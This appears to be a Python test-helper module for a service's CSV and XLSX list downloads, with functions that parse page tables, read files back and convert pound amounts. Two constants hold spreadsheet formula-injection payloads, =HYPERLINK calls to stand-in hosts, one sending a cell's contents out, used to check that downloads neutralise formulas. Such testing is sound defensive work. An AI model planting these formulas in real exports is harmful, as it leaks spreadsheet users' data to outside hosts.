"""Helpers for the tests of list downloads: a page's table as text, and a downloaded CSV or XLSX read back."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from html.parser import HTMLParser

from openpyxl import load_workbook

# Text a spreadsheet would run as a formula, to show that every download guards it.
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Guidance")'
# The same, short enough for a 40-character field (an agreement's reference).
SHORT_EVIL = '=HYPERLINK("http://e.example","G")'


class _Tables(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tables: dict[str, list[list[str]]] = {}
        self._table: list[list[str]] | None = None
        self._cell: list[str] | None = None
        self._hidden = 0

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "table":
            self._table = self.tables.setdefault(attrs.get("id") or f"table-{len(self.tables)}", [])
        elif tag == "tr" and self._table is not None:
            self._table.append([])
        elif tag in ("td", "th") and self._table is not None:
            self._cell = []
        elif tag == "span" and "govuk-visually-hidden" in (attrs.get("class") or ""):
            self._hidden += 1
        elif tag == "span" and self._hidden:
            self._hidden += 1

    def handle_endtag(self, tag):
        if tag == "table":
            self._table = None
        elif tag in ("td", "th") and self._cell is not None and self._table is not None:
            self._table[-1].append(" ".join("".join(self._cell).split()))
            self._cell = None
        elif tag == "span" and self._hidden:
            self._hidden -= 1

    def handle_data(self, data):
        if self._cell is not None and not self._hidden:
            self._cell.append(data)


def page_table(content: bytes | str, table_id: str | None = None) -> list[list[str]]:
    """The rows of the page's table (by id, or the first), each a list of its cells' visible text."""
    parser = _Tables()
    parser.feed(content.decode() if isinstance(content, bytes) else content)
    tables = parser.tables
    return tables[table_id] if table_id else next(iter(tables.values()))


def read_csv(response) -> list[list[str]]:
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff"), "a list's CSV starts with the byte-order mark, so Excel reads it as UTF-8"
    return list(csv.reader(io.StringIO(text[1:])))


def read_xlsx(response) -> list[list]:
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def pounds(text: str) -> Decimal:
    """£1,234.56 on a page as a Decimal."""
    return Decimal(text.replace("£", "").replace(",", "").replace("−", "-"))
